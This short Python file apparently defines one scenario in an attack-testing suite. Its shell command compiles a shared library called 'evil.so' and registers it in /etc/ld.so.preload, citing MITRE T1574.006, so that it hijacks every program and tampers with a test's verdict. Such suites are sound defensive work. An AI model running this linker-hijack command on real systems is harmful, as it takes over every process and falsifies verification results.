"""Preloads a library into every program by /etc/ld.so.preload; loaded by test.sh's bash, it writes the verdict.

Source: MITRE ATT&CK T1574.006 (dynamic linker hijacking); aquasecurity/tracee#733.
"""

from attacks.frame import Attack
from attacks.preloads import EVIL_C

ATTACK = Attack(
    "shell",
    f"cat > evil.c <<'EOF'\n{EVIL_C}\nEOF\n"
    "gcc -shared -fPIC -o /opt/evil.so evil.c && echo /opt/evil.so > /etc/ld.so.preload",
    tampers="/etc/ld.so.preload",
)
